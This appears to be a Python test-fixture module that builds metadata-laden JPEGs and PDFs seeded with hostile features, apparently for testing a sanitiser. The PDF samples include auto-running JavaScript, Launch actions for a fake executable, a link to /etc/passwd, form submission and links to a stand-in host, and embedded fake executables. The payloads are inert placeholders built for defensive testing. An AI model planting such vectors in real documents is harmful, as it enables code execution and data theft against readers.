"""Files as attackers and telephones make them."""

import io
import warnings
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

ORIENTATION, GPS, MAKE = 0x0112, 0x8825, 0x010F


def jpeg(width: int = 40, height: int = 20, *, rotated: bool = False, colour: str = "red") -> bytes:
    """A photo with place, camera and comment; ``rotated``: the telephone was held upright."""
    image = Image.new("RGB", (width, height), colour)
    image.paste("blue", (0, 0, width // 2, height))
    exif = Image.Exif()
    exif[MAKE] = "Geheimkamera"
    exif.get_ifd(GPS)[1] = "N"
    if rotated:
        exif[ORIENTATION] = 6
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"Geheimkommentar", icc_profile=b"Geheimprofil" * 20, quality=95)
    return buffer.getvalue()


def png(mode: str = "RGB", size: tuple[int, int] = (30, 20), **options) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, "PNG", **options)
    return buffer.getvalue()


def other_image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, kind)
    return buffer.getvalue()


def pdf(build: Callable[[Pdf], None] = lambda pdf: None, *, pages: int = 1, **save) -> bytes:
    """A document with ``pages`` pages to which ``build`` did something."""
    document = Pdf.new()
    for number in range(pages):
        page = document.add_blank_page(page_size=(200, 200))
        page.Contents = Stream(document, b"BT /F1 12 Tf 20 100 Td (Seite %d) Tj ET" % (number + 1))
    build(document)
    return saved(document, **save)


def saved(document: Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(action="ignore"):  # pikepdf warns of fields that no form knows
        document.save(buffer, **options)
    return buffer.getvalue()


def action(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


JS = String("app.alert('BOESE')")


def annotate(document: Pdf, subtype: str, **more) -> Dictionary:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 50, 50]), **more)
    document.pages[0].Annots = Array([document.make_indirect(annotation)])
    return annotation


def javascript_on_open(document: Pdf) -> None:
    document.Root.OpenAction = action("JavaScript", JS=JS)


def javascript_by_name(document: Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action("JavaScript", JS=JS)])))


def javascript_in_a_chain(document: Pdf) -> None:
    jump = action("GoTo", D=Array([document.pages[0].obj, Name.Fit]), Next=Array([action("JavaScript", JS=JS)]))
    annotate(document, "Link", A=jump)


def javascript_in_a_stream(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=action("JavaScript", JS=Stream(document, b"app.alert('BOESE')")))


def javascript_in_a_hidden_field(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("summe"), AA=Dictionary(C=action("JavaScript", JS=JS)))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def javascript_on_a_page_nobody_counts(document: Pdf) -> None:
    """An object that only a broken reader would reach: kept alive from the catalog under a key of its own."""
    document.Root.Eigenes = document.make_indirect(Dictionary(Tief=Array([Dictionary(A=action("JavaScript", JS=JS))])))


def additional_actions_of_the_document(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=action("Launch", F=String("BOESE.exe")))


def launch(document: Pdf) -> None:
    annotate(document, "Link", A=action("Launch", F=Dictionary(Type=Name.Filespec, F=String("BOESE.exe"))))


def link_to_a_file(document: Pdf) -> None:
    annotate(document, "Link", A=action("URI", URI=String("file:///etc/passwd#BOESE")))


def link_that_calls_home(document: Pdf) -> None:
    annotate(document, "Link", A=action("URI", URI=String("https://boese.example/?BOESE")))


def link_kept_for_web_capture(document: Pdf) -> None:
    annotate(document, "Link", PA=action("URI", URI=String("https://boese.example/?BOESE")))


def submit_form(document: Pdf) -> None:
    annotate(document, "Widget", AA=Dictionary(U=action("SubmitForm", F=String("https://boese.example/BOESE"))))


def unknown_action(document: Pdf) -> None:
    annotate(document, "Link", A=action("Neuartig", Was=String("BOESE")))


def action_in_a_bookmark(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("Kapitel"), A=action("GoToR", F=String("BOESE.pdf"))))
    document.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def embedded_file(document: Pdf) -> None:
    document.attachments["brief.exe"] = pikepdf.AttachedFileSpec(document, b"MZ BOESE", filename="brief.exe")


def attachment_annotation(document: Pdf) -> None:
    stream = Stream(document, b"MZ BOESE", Type=Name.EmbeddedFile)
    annotate(
        document,
        "FileAttachment",
        FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=document.make_indirect(stream))),
    )


def associated_file(document: Pdf) -> None:
    stream = Stream(document, b"MZ BOESE", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, UF=String("a.exe"), EF=Dictionary(F=document.make_indirect(stream)))
    document.pages[0].AF = Array([document.make_indirect(spec)])


def rich_media(document: Pdf) -> None:
    annotate(document, "RichMedia", RichMediaContent=Dictionary(Assets=String("BOESE")))


def movie(document: Pdf) -> None:
    annotate(document, "Screen", A=action("Rendition", JS=JS))


def xfa_beside_fields(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("name"), V=String("Olena"))
    xfa = Stream(document, b"<xdp><script>BOESE</script></xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), XFA=document.make_indirect(xfa))


def page_of_another_file(document: Pdf) -> None:
    form = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("BOESE.pdf"), Page=0)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(form)))


def content_outside(document: Pdf) -> None:
    outside = Stream(document, b"", F=Dictionary(Type=Name.Filespec, F=String("/etc/BOESE")))
    document.pages[0].Contents = Array([document.pages[0].Contents, document.make_indirect(outside)])


def base_address(document: Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("https://boese.example/BOESE"))


def portfolio(document: Pdf) -> None:
    embedded_file(document)
    document.Root.Collection = Dictionary(View=Name.D, D=String("BOESE"))


def private_data(document: Pdf) -> None:
    document.Root.PieceInfo = Dictionary(Programm=Dictionary(Private=String("BOESE")))


def thumbnail(document: Pdf) -> None:
    """The page as it looked before something was blacked out."""
    document.pages[0].Thumb = document.make_indirect(Stream(document, b"BOESE"))


def private_data_of_a_page(document: Pdf) -> None:
    document.pages[0].PieceInfo = Dictionary(Programm=Dictionary(Private=String("BOESE")))


EVIL = (
    *(javascript_on_open, javascript_by_name, javascript_in_a_chain, javascript_in_a_stream, javascript_in_a_hidden_field),
    *(javascript_on_a_page_nobody_counts, additional_actions_of_the_document, launch, link_to_a_file, link_that_calls_home),
    *(link_kept_for_web_capture, submit_form, unknown_action, action_in_a_bookmark, embedded_file, attachment_annotation),
    *(associated_file, rich_media, movie, xfa_beside_fields, page_of_another_file, content_outside, base_address, portfolio),
    *(private_data, private_data_of_a_page, thumbnail),
)


def everything_in(content: bytes) -> str:
    """Return all that a document says, streams unpacked: what was hidden anywhere would be in it."""
    level, mode = pikepdf.StreamDecodeLevel.generalized, pikepdf.ObjectStreamMode.disable
    with pikepdf.open(io.BytesIO(content)) as document:
        return saved(document, qdf=True, compress_streams=False, stream_decode_level=level, object_stream_mode=mode).decode(
            "latin-1"
        )
